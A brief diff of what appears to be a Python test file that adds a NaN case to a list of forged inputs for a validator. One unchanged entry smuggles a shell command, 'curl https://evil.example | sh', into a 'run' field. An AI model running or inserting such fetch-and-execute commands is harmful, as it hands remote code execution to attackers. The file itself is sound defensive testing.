@@ -219,7 +219,7 @@ FORGED = (
     {"run": "x; curl https://evil.example | sh"}, {"run": "x\n"}, {"run": ""}, {"run": ["run-1"]},
     {"who": 5}, {"since": None}, {"operation": "x" * 5000},
     {"pid": "1"}, {"pid": True}, {"pid": 0}, {"pid": -1}, {"pid": 10**30},
-    {"more": 1},
+    {"more": 1}, {"pid": float("nan")},
 )  # fmt: skip
 
 
